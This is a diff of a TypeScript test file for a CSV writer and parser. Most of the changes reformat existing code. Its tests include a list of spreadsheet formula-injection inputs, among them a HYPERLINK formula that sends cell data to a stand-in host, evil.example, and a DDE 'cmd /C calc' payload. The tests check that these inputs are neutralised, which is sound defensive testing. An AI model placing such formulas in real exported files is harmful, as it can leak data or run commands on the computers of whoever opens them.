@@ -11,7 +11,7 @@ function pythonRows(text: string): string[][] {
   return JSON.parse(r.stdout) as string[][];
 }
 
-const HOSTILE = ['=HYPERLINK("http://evil.example/?q="&A1,"click")', '@SUM(A1:A9)', '+1', '-cmd|\' /C calc\'!A0', '\t=1+1', '\r=1+1', '=1+1'];
+const HOSTILE = ['=HYPERLINK("http://evil.example/?q="&A1,"click")', '@SUM(A1:A9)', '+1', "-cmd|' /C calc'!A0", '\t=1+1', '\r=1+1', '=1+1'];
 
 test('csvField: RFC 4180 quoting of commas, quotes and line breaks; empty for null/undefined', () => {
   assert.equal(csvField('plain'), 'plain');
@@ -42,18 +42,33 @@ test('csvField: text starting with = + - @ tab or CR gets a leading quote; numbe
 });
 
 test('recordsToCsv: union of keys in first-seen order, missing keys empty', () => {
-  const csv = recordsToCsv([{ case: 'a', dice: 0.5 }, { case: 'b', hd95: 2, dice: 0.25 }]);
+  const csv = recordsToCsv([
+    { case: 'a', dice: 0.5 },
+    { case: 'b', hd95: 2, dice: 0.25 },
+  ]);
   assert.equal(csv, 'case,dice,hd95\na,0.5,\nb,0.25,2\n');
   assert.equal(recordsToCsv([{ a: 1, b: 2 }], ['b']), 'b\n2\n');
 });
 
 test('toCsv: a row of the wrong width is a CsvError', () => {
-  assert.throws(() => toCsv(['a', 'b'], [[1]]), (e: unknown) => e instanceof CsvError && e.code === 'RAGGED_ROW');
+  assert.throws(
+    () => toCsv(['a', 'b'], [[1]]),
+    (e: unknown) => e instanceof CsvError && e.code === 'RAGGED_ROW',
+  );
 });
 
 test('round trip through Python csv and parseCsv: hostile ids neutralised, numbers stay numbers', () => {
   const records: Record<string, CsvValue>[] = [];
-  HOSTILE.forEach((id, i) => records.push({ model: `m,${i}`, case: id, label: i % 2 ? '-cmd' : 1, dice: -0.5 * i - 0.25, hd95: i === 3 ? Number.POSITIVE_INFINITY : i === 4 ? Number.NEGATIVE_INFINITY : 1.25, note: 'line1\r\nline2 "quoted"' }));
+  HOSTILE.forEach((id, i) =>
+    records.push({
+      model: `m,${i}`,
+      case: id,
+      label: i % 2 ? '-cmd' : 1,
+      dice: -0.5 * i - 0.25,
+      hd95: i === 3 ? Number.POSITIVE_INFINITY : i === 4 ? Number.NEGATIVE_INFINITY : 1.25,
+      note: 'line1\r\nline2 "quoted"',
+    }),
+  );
   records.push({ model: 'plain', case: 'c_01', label: 2, dice: Number.NaN, hd95: 1e-7 });
   const text = recordsToCsv(records);
   const py = pythonRows(text);
@@ -75,18 +90,38 @@ test('round trip through Python csv and parseCsv: hostile ids neutralised, numbe
     assert.equal(r[5], rec.note ?? '');
   });
   // Python's float() reads every number field, -Infinity and NaN included
-  const check = spawnSync('/usr/bin/python3', ['-c', 'import csv, io, sys\nrows = list(csv.DictReader(io.StringIO(sys.stdin.read(), newline="")))\nprint(",".join(repr(float(r["dice"])) for r in rows))'], { input: text, encoding: 'utf8' });
+  const check = spawnSync(
+    '/usr/bin/python3',
+    [
+      '-c',
+      'import csv, io, sys\nrows = list(csv.DictReader(io.StringIO(sys.stdin.read(), newline="")))\nprint(",".join(repr(float(r["dice"])) for r in rows))',
+    ],
+    { input: text, encoding: 'utf8' },
+  );
   assert.equal(check.status, 0, check.stderr);
-  const pyDice = check.stdout.trim().split(',').map((v) => (v === 'nan' ? Number.NaN : Number(v)));
-  assert.deepEqual(pyDice, records.map((r) => r.dice));
+  const pyDice = check.stdout
+    .trim()
+    .split(',')
+    .map((v) => (v === 'nan' ? Number.NaN : Number(v)));
+  assert.deepEqual(
+    pyDice,
+    records.map((r) => r.dice),
+  );
 });
 
 test('parseCsv: BOM, CRLF, blank lines and quoted line breaks; errors name the line', () => {
-  assert.deepEqual(parseCsv('\ufeffa,b\r\n1,"x\r\ny"\r\n\r\n2,3\r\n'), [['a', 'b'], ['1', 'x\r\ny'], ['2', '3']]);
+  assert.deepEqual(parseCsv('\ufeffa,b\r\n1,"x\r\ny"\r\n\r\n2,3\r\n'), [
+    ['a', 'b'],
+    ['1', 'x\r\ny'],
+    ['2', '3'],
+  ]);
   assert.deepEqual(parseCsv(''), []);
   assert.throws(
     () => parseCsv('a,b\n"1\n2",3\n4\n'),
     (e: unknown) => e instanceof CsvError && e.code === 'RAGGED_ROW' && e.line === 4 && /line 4 has 1 fields/.test(e.message),
   );
-  assert.throws(() => parseCsv('a,b\n1,"open\n'), (e: unknown) => e instanceof CsvError && e.code === 'UNTERMINATED_QUOTE' && e.line === 2);
+  assert.throws(
+    () => parseCsv('a,b\n1,"open\n'),
+    (e: unknown) => e instanceof CsvError && e.code === 'UNTERMINATED_QUOTE' && e.line === 2,
+  );
 });
